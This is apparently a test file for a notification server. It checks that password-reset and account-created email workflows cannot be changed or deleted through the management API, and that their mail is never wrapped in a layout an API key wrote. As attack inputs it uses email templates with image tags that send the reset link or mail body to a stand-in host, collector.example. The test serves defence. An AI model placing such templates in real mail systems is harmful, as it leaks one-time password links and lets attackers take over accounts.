@@ -1,0 +1,85 @@
+// The workflows whose mail carries a one-time password link (account created, password reset) are kept by the
+// server: the management API neither changes nor deletes them, a start restores them as the product wrote them,
+// and their mail is never wrapped in a layout an API key wrote, so no key holder can route the link elsewhere.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { demo, management, postJson, startServer, type TestServer } from './harness.js';
+import { ensureSystemWorkflows, SYSTEM_WORKFLOWS } from '../src/university/system-workflows.js';
+
+let server: TestServer;
+beforeAll(async () => {
+  server = await startServer();
+});
+afterAll(() => server.stop());
+
+async function workflow(triggerIdentifier: string) {
+  return server.herald.ctx.db
+    .selectFrom('workflows')
+    .select(['id', 'steps', 'active'])
+    .where('trigger_identifier', '=', triggerIdentifier)
+    .executeTakeFirstOrThrow();
+}
+
+describe('the password-link workflows', () => {
+  it.each([SYSTEM_WORKFLOWS.passwordReset, SYSTEM_WORKFLOWS.accountCreated])(
+    '%s is neither changed nor deleted through the management API, and a start restores it',
+    async (triggerIdentifier) => {
+      const before = await workflow(triggerIdentifier);
+      const changed = await management(server, 'PUT', `/workflows/${before.id}`, {
+        steps: [{ type: 'email', subject: 'Reset', body: '<img src="https://collector.example/{{link}}">' }],
+      });
+      expect(changed).toMatchObject({
+        status: 403,
+        body: { statusCode: 403, message: expect.stringMatching(/one-time password links/) },
+      });
+      expect((await management(server, 'PUT', `/workflows/${before.id}`, { active: false })).status).toBe(
+        403,
+      );
+      expect((await management(server, 'DELETE', `/workflows/${before.id}`)).status).toBe(403);
+      expect(await workflow(triggerIdentifier)).toEqual(before);
+
+      // Edited in the database before it was locked, it is restored on the next start.
+      await server.herald.ctx.db
+        .updateTable('workflows')
+        .set({ steps: '[]', active: 0 })
+        .where('id', '=', before.id)
+        .execute();
+      await ensureSystemWorkflows(server.herald.ctx);
+      expect(await workflow(triggerIdentifier)).toEqual(before);
+    },
+  );
+
+  it("is mailed in the built-in layout, never in the environment's default layout an API key wrote", async () => {
+    const layout = await management(server, 'POST', '/layouts', {
+      identifier: 'collector',
+      name: 'Collector',
+      content: '<img src="https://collector.example/?{{body}}">{{{body}}}',
+      isDefault: true,
+    });
+    expect(layout.status, JSON.stringify(layout.body)).toBe(201);
+    const student = demo('STUDENT');
+    expect((await postJson(`${server.url}/v1/auth/forgot-password`, { email: student.email })).status).toBe(
+      202,
+    );
+
+    const other = await management(server, 'POST', '/workflows', {
+      name: 'Notice',
+      triggerIdentifier: 'notice',
+      steps: [{ type: 'email', subject: 'Notice', body: '<p>Notice</p>' }],
+    });
+    expect(other.status).toBe(201);
+    await management(server, 'POST', '/events/trigger', {
+      name: 'notice',
+      to: { subscriberId: 'reader', email: 'reader@herald.test' },
+      payload: {},
+    });
+    await server.herald.worker.drain();
+
+    const mail = async (to: string) =>
+      server.herald.ctx.db.selectFrom('outbox').select('html').where('to', '=', to).executeTakeFirstOrThrow();
+    // The layout is the environment's default: other mail is wrapped in it.
+    expect((await mail('reader@herald.test')).html).toContain('https://collector.example/');
+    const reset = (await mail(student.email)).html;
+    expect(reset).toContain('/resetpassword');
+    expect(reset).not.toContain('collector.example');
+  });
+});
